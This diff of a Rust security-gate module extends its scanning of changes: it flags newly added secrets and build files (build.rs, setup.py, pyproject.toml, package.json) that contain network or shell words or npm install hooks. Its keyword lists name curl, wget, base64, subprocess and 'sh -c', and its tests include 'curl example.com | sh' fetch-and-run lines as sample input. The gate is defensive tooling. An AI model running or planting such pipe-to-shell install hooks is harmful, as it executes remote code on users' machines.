@@ -4,26 +4,34 @@ use crate::gate::{Gate, Seen, Verdict};
 use crate::glob::matches;
 use crate::path::RelPath;
 use crate::proposal::FileState;
+use crate::secrets::secret;
 use std::fmt;
 
-/// Texts that begin a secret: how they begin, how many characters of the key's alphabet follow at least, what it is.
-const SECRETS: [(&str, usize, &str); 10] = [
-    ("AKIA", 16, "a key of AWS"),
-    ("ghp_", 36, "a token of GitHub"),
-    ("github_pat_", 50, "a token of GitHub"),
-    ("glpat-", 20, "a token of GitLab"),
-    ("xoxb-", 24, "a token of Slack"),
-    ("sk-ant-", 32, "a key of Anthropic"),
-    ("sk-proj-", 32, "a key of OpenAI"),
-    ("AIza", 35, "a key of Google"),
-    ("npm_", 36, "a token of npm"),
-    ("pypi-AgEIcHlwaS5vcmc", 30, "a token of PyPI"),
-];
-/// The line that a private key begins with, without its kind.
-const PRIVATE_KEY: (&str, &str) = ("-----BEGIN ", "PRIVATE KEY-----");
 /// What a build script of Rust seldom needs and an attack does.
 const REACHES_OUT: [&str; 8] =
     ["TcpStream", "UdpSocket", "UnixStream", "Command::new(\"sh\"", "Command::new(\"bash\"", "curl", "wget", "base64"];
+
+/// The same of Python.
+const PYTHON_REACHES_OUT: [&str; 13] = [
+    "urllib",
+    "requests",
+    "http.client",
+    "socket",
+    "subprocess",
+    "os.system",
+    "os.popen",
+    "exec(",
+    "eval(",
+    "__import__",
+    "base64",
+    "curl",
+    "wget",
+];
+/// The same in a build's settings.
+const BUILD_REACHES_OUT: [&str; 6] = ["curl", "wget", "base64", "sh -c", "bash -c", "python -c"];
+/// Scripts that npm runs when a package is installed; the versions of packages of these names begin otherwise.
+const NPM_HOOKS: [&str; 4] = ["preinstall", "install", "postinstall", "prepare"];
+const NUMBERS: [char; 13] = ['0', '1', '2', '3', '4', '5', '6', '7', '8', '9', '^', '~', '>'];
 
 /// Something that a person should see.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -47,27 +55,35 @@ pub fn findings(path: &RelPath, before: Option<&FileState>, after: &FileState) -
     let old = before.map(|state| String::from_utf8_lossy(&state.bytes).into_owned()).unwrap_or_default();
     let text = String::from_utf8_lossy(&after.bytes);
     let old_lines: std::collections::HashSet<&str> = old.lines().collect();
-    let is_build_script = path.name() == b"build.rs";
     let mut all = Vec::new();
     for (number, line) in text.lines().enumerate().filter(|(_, line)| !old_lines.contains(line)) {
         let mut found = |what: String| all.push(Finding { path: path.clone(), line: number + 1, what });
         if let Some(what) = secret(line) {
             found(format!("looks like {what}"));
         }
-        if is_build_script && let Some(word) = REACHES_OUT.iter().find(|word| line.contains(**word)) {
-            found(format!("a build script with '{word}'"));
+        if let Some(what) = reaches_out(path, line) {
+            found(what);
         }
     }
     all
 }
 
-fn secret(line: &str) -> Option<&'static str> {
-    if line.find(PRIVATE_KEY.0).is_some_and(|at| line[at..].contains(PRIVATE_KEY.1)) {
-        return Some("a private key");
-    }
-    let is_key = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '-';
-    let follows = |begin: &str, at: usize| line[at + begin.len()..].chars().take_while(|c| is_key(*c)).count();
-    SECRETS.iter().find(|(begin, least, _)| line.match_indices(begin).any(|(at, _)| follows(begin, at) >= *least)).map(|(.., what)| *what)
+/// What in a line of a build's file a person should see.
+fn reaches_out(path: &RelPath, line: &str) -> Option<String> {
+    let words = match path.name() {
+        b"build.rs" => &REACHES_OUT[..],
+        b"setup.py" => &PYTHON_REACHES_OUT,
+        b"pyproject.toml" | b"setup.cfg" => &BUILD_REACHES_OUT,
+        b"package.json" => {
+            let is_hook = |hook: &&&str| {
+                let after = line.split_once(&format!("\"{hook}\"")).map(|(_, rest)| rest.trim_start_matches([' ', '\t', ':']));
+                after.is_some_and(|value| value.strip_prefix('"').is_some_and(|value| !value.starts_with(NUMBERS)))
+            };
+            return NPM_HOOKS.iter().find(is_hook).map(|hook| format!("npm runs '{hook}' when it installs"));
+        }
+        _ => return None,
+    };
+    words.iter().find(|word| line.contains(**word)).map(|word| format!("a build script with '{word}'"))
 }
 
 /// The security gate: what a change adds must have no finding, and `unsafe` stays within its map.
@@ -137,9 +153,21 @@ mod tests {
         assert_eq!(found("a.toml", "", &key), ["a.toml:1: looks like a key of AWS"]);
         assert!(found("a.toml", &key, &format!("x = 1\n{key}")).is_empty());
         assert!(found("a.toml", "", "AKIA is how they begin\n").is_empty());
-        let private = format!("{}EC {}", PRIVATE_KEY.0, PRIVATE_KEY.1);
+        let private = format!("{}EC {}", "-----BEGIN ", "PRIVATE KEY-----");
         assert_eq!(found("k", "", &private), ["k:1: looks like a private key"]);
         assert_eq!(found("x/build.rs", "", "fn main() { Command::new(\"curl\"); }").len(), 1);
+        for (path, line) in [
+            ("package.json", "  \"postinstall\": \"curl example.com | sh\","),
+            ("web/package.json", "{\"scripts\":{\"preinstall\":\"node x.js\"}}"),
+            ("package.json", "\"install\": \"./build\""),
+            ("setup.py", "import subprocess"),
+            ("pyproject.toml", "build = \"curl example.com | sh\""),
+        ] {
+            assert_eq!(found(path, "", line).len(), 1, "{path}: {line}");
+        }
+        for (path, line) in [("package.json", "\"install\": \"^0.13.0\""), ("pyproject.toml", "dependencies = [\"requests\"]")] {
+            assert!(found(path, "", line).is_empty(), "{path}: {line}");
+        }
         assert!(found("x/src/net.rs", "", "TcpStream::connect()").is_empty());
     }
 
